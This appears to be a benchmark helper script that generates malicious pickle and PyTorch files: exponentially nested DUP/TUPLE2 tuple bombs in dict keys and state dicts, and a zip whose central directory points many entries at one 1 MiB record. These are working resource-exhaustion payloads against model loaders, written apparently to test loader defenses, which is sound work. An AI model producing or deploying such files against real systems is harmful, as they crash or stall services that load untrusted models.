"""Writes the small hostile files of bench/pickle-bombs.sh (standard library only).

  pickle_bombs.py KIND PARAM OUT

  keys PARAM     a dict whose key is a tuple nested PARAM deep, each level
                 holding the level below twice (DUP, TUPLE2): 7 + 2*PARAM bytes
  zip PARAM      a torch zip whose central directory has PARAM entries that
                 all point at one 1 MiB record
  report PARAM   a state dict whose value is a tuple nested PARAM deep, each
                 level holding the level below twice, over one tensor
"""
import struct
import sys
import zlib


def keys(depth):
    return b"\x80\x02}N" + b"2\x86" * depth + b"Ns."


def zip_overlap(n, size=1 << 20):
    body = bytes(size)
    crc = zlib.crc32(body)
    name0 = b"archive/data/0"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, size, size, len(name0), 0) + name0 + body
    cd = bytearray()
    for i in range(n):
        name = b"archive/data/%d" % i
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, size, size,
                          len(name), 0, 0, 0, 0, 0, 0) + name
    out = local + cd
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n & 0xFFFF, n & 0xFFFF, len(cd), len(local), 0)
    return out


def blob():
    # legacy torch file holding one float storage of 1 element
    def p2(body):
        return b"\x80\x02" + body + b"."
    magic = p2(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"))
    proto = p2(b"M\xe9\x03")
    sysinfo = p2(b"}(X\x10\x00\x00\x00protocol_versionM\xe9\x03X\x0d\x00\x00\x00little_endian\x88"
                 b"X\x0a\x00\x00\x00type_sizes}(X\x05\x00\x00\x00shortK\x02X\x03\x00\x00\x00intK\x04"
                 b"X\x04\x00\x00\x00longK\x04uu")
    obj = p2(b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x001X\x03\x00\x00\x00cpuK\x01Ntq\x00Q")
    keys_ = p2(b"]X\x01\x00\x00\x001a")
    return magic + proto + sysinfo + obj + keys_ + struct.pack("<q", 1) + b"\x00" * 4


def report(depth):
    b = blob()
    out = bytearray(b"\x80\x03}X\x01\x00\x00\x00w")
    out += b"ctorch._utils\n_rebuild_tensor_v2\n("
    out += b"ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(b)) + b + b"\x85R"
    out += b"K\x00K\x01\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
    out += b"2\x86" * depth  # DUP, TUPLE2: (x, x), nested depth times
    out += b"s."
    return bytes(out)


if __name__ == "__main__":
    kind, param, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    data = {"keys": keys, "zip": zip_overlap, "report": report}[kind](param)
    with open(path, "wb") as f:
        f.write(data)
